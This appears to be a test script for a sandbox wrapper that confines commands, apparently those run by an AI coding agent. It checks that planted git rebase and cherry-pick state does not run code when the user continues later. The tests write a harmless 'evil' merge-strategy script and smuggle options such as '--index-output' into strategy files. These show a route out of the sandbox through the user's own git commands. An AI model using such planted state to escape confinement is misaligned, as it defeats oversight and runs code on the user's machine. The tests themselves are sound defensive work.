GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" $G rebase -q -i HEAD~1 >/dev/null 2>&1
$G commit -q --amend -m one-b && printf "%s\n" "$2" >.git/rebase-merge/strategy &&
{ [ -z "$3" ] || printf "%s\n" "$3" >.git/rebase-merge/strategy_opts; } && mkdir -p git-merge-x &&
printf "#!/bin/sh\ntouch %s/strategy-ran\nexit 1\n" "$1" >git-merge-x/evil && chmod +x git-merge-x/evil && echo LEFT'
for case in other opts; do
	if [ $case = other ]; then
		strat=x/evil sopts= why="names a merge strategy in rebase-merge/strategy that is not one of git's own"
	else
		strat=resolve sopts="--index-output=$MARKS/strategy-ran"
		why="gives git's resolve or octopus strategy options in rebase-merge/strategy_opts"
	fi
	for how in ctrl prot; do
		N=$HOME_DIR/work/strategy-$case-$how
		as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo a >a && git add a && git commit -q -m one &&
			echo b >b && git add b && git commit -q -m two' sh "$N"
		if [ $how = ctrl ]; then
			as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
				-q -- /bin/sh -c "$STRAT_SH" sh "$MARKS" "$strat" "$sopts" >/dev/null 2>&1
		else
			run llw -p opencode $BE -C "$N" -- /bin/sh -c "$STRAT_SH" sh "$MARKS" "$strat" "$sopts"
		fi
		as_user git -C "$N" rebase --continue >/dev/null 2>&1
		if [ $how = ctrl ]; then
			[ -e "$MARKS/strategy-ran" ] &&
				ok "control: a rebase's strategy ($case) runs on the user's git rebase --continue" ||
				not_ok "control: a rebase's strategy ($case) should run on the user's continue"
		elif [ ! -e "$MARKS/strategy-ran" ] && printf '%s\n' "$out" | grep -q "^LEFT$" &&
			printf '%s\n' "$out" | grep -q "the command left $N/\\.git/rebase-merge/git-rebase-todo, which git rebase --continue (the rebase the command left in progress $why.*moved aside to $N/\\.git/rebase-merge/git-rebase-todo\\.llwrap-blocked-"; then
			ok "opencode: a rebase left with a strategy ($case) has its todo list moved aside, said; the user's continue runs nothing"
		else
			not_ok "opencode: a rebase left with a strategy ($case) has its todo list moved aside"
			diag "status $rc: $out"; diag "$(ls "$MARKS")"
		fi
		rm -f "$MARKS"/*
	done
done
# The neighbour: a rebase stopped inside with git's own strategy and
# options (-s ort -X theirs) is left, and the user continues it.
N=$HOME_DIR/work/strategy-own
as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo a >a && git add a && git commit -q -m one &&
	echo b >b && git add b && git commit -q -m two' sh "$N"
run llw -p opencode $BE -C "$N" -- /bin/sh -c 'GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" git rebase -q -i -s ort -X theirs HEAD~1 >/dev/null 2>&1
	git -c user.email=a@x -c user.name=a commit -q --amend -m one-b && cat .git/rebase-merge/strategy'
expect_output "a rebase stopped inside with -s ort -X theirs" "^ort$"
expect_no_output "... is left" "moved aside"
as_user /bin/sh -c 'cd "$1" && git rebase --continue >/dev/null 2>&1 && git log --format=%s | head -1' sh "$N" >"$T/rebase.out" 2>&1
grep -qx two "$T/rebase.out" && ok "... and the user continues it" ||
	{ not_ok "the user continues a rebase left with git's own strategy"; diag "$(cat "$T/rebase.out")"; }
# Review Y: a rebase whose state names no strategy takes the user's
# pull.twohead; with resolve there, strategy_opts alone (no strategy
# file: git rebase writes pull.twohead there at the start, the command
# removed it) became arguments of git read-tree at the user's continue.
TWOHEAD_SH='G="git -c user.email=a@x -c user.name=a"
GIT_SEQUENCE_EDITOR="sed -i \"1i break\"" $G rebase -q -i HEAD~1 >/dev/null 2>&1
$G commit -q --amend -m one-b && rm -f .git/rebase-merge/strategy &&
printf -- "--index-output=%s/twohead-ran\n" "$1" >.git/rebase-merge/strategy_opts && echo LEFT'
for how in ctrl prot; do
	N=$HOME_DIR/work/twohead-$how
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && git config pull.twohead resolve && echo a >a && git add a &&
		git commit -q -m one && echo b >b && git add b && git commit -q -m two' sh "$N"
	if [ $how = ctrl ]; then
		as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
			-q -- /bin/sh -c "$TWOHEAD_SH" sh "$MARKS" >/dev/null 2>&1
	else
		run llw -p opencode $BE -C "$N" -- /bin/sh -c "$TWOHEAD_SH" sh "$MARKS"
	fi
	as_user git -C "$N" rebase --continue >/dev/null 2>&1
	if [ $how = ctrl ]; then
		[ -e "$MARKS/twohead-ran" ] &&
			ok "control: strategy_opts with no strategy, the user's pull.twohead resolve: the user's continue writes the file" ||
			not_ok "control: strategy_opts with no strategy should reach git read-tree under pull.twohead resolve"
	elif [ ! -e "$MARKS/twohead-ran" ] && printf '%s\n' "$out" | grep -q "^LEFT$" &&
		printf '%s\n' "$out" | grep -q "the command left $N/\\.git/rebase-merge/git-rebase-todo, which git rebase --continue (.*no strategy named, the user's pull.twohead's.*moved aside"; then
		ok "opencode: a rebase left with strategy options and no strategy (an option git's own merges do not take) has its todo list moved aside; the user's continue writes nothing"
	else
		not_ok "opencode: a rebase left with strategy options and no strategy has its todo list moved aside"
		diag "status $rc: $out"; diag "$(ls "$MARKS")"
	fi
	rm -f "$MARKS"/*
done
# A cherry-pick sequence stopped on a conflict names its strategy in
# sequencer/opts, a config file (options.strategy): the same.
CP_SH='git -c user.email=a@x -c user.name=a cherry-pick side~1 side >/dev/null 2>&1
git config -f .git/sequencer/opts options.strategy x/evil && mkdir -p git-merge-x &&
printf "#!/bin/sh\ntouch %s/strategy-ran\nexit 1\n" "$1" >git-merge-x/evil && chmod +x git-merge-x/evil && echo LEFT'
for how in ctrl prot; do
	N=$HOME_DIR/work/strategy-cp-$how
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo a >f && git add f && git commit -q -m base &&
		git checkout -q -b side && echo b >f && git commit -q -am c1 && echo g >g && git add g &&
		git commit -q -m c2 && git checkout -q - && echo c >f && git commit -q -am c3' sh "$N"
	if [ $how = ctrl ]; then
		as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
			-q -- /bin/sh -c "$CP_SH" sh "$MARKS" >/dev/null 2>&1
	else
		run llw -p opencode $BE -C "$N" -- /bin/sh -c "$CP_SH" sh "$MARKS"
	fi
	as_user /bin/sh -c 'cd "$1" && echo r >f && git add f && git cherry-pick --continue' sh "$N" >/dev/null 2>&1
	if [ $how = ctrl ]; then
		[ -e "$MARKS/strategy-ran" ] &&
			ok "control: a cherry-pick's options.strategy runs on the user's git cherry-pick --continue" ||
			not_ok "control: a cherry-pick's options.strategy should run on the user's continue"
	elif [ ! -e "$MARKS/strategy-ran" ] && printf '%s\n' "$out" | grep -q "^LEFT$" &&
		printf '%s\n' "$out" | grep -q "the command left $N/\\.git/sequencer/todo, which git cherry-pick or revert --continue (the sequence the command left in progress names a merge strategy in sequencer/opts that is not one of git's own.*moved aside"; then
		ok "opencode: a cherry-pick left with options.strategy has its todo list moved aside, said; the user's continue runs nothing"
	else
		not_ok "opencode: a cherry-pick left with options.strategy has its todo list moved aside"
		diag "status $rc: $out"; diag "$(ls "$MARKS")"
	fi
	rm -f "$MARKS"/*
done

# Review A, F4: the todo list is read with a bound.  A sparse one of
# 1 GiB is moved aside unread, at once, and said; the run is not slowed.
N=$HOME_DIR/work/rebase-large
as_user /bin/sh -c 'git init -q "$1" && cd "$1" && git commit -q --allow-empty -m one' sh "$N"
t0=$(date +%s)
run llw -p opencode $BE -C "$N" -- /bin/sh -c 'mkdir .git/rebase-merge && truncate -s 1G .git/rebase-merge/git-rebase-todo && echo LEFT'
t1=$(date +%s)
expect_output "a 1 GiB todo list left: moved aside, said" \
	"the command left $N/\\.git/rebase-merge/git-rebase-todo, which git rebase --continue \\(it runs the list, larger than llwrap reads, 1 MiB.*moved aside"
[ $((t1 - t0)) -lt 4 ] && ok "... unread (the run took $((t1 - t0)) s)" || not_ok "a 1 GiB todo list was read ($((t1 - t0)) s)"

# Explain names the protection, its layer, and what it cannot protect.
run llw -p opencode $BE --explain -- /bin/true
expect_output "--explain lists the pin of .git" "pin +rwx? $PROJ/\\.git"
expect_output "--explain lists .git/config read-only" "mask ro $PROJ/\\.git/config"

done_testing
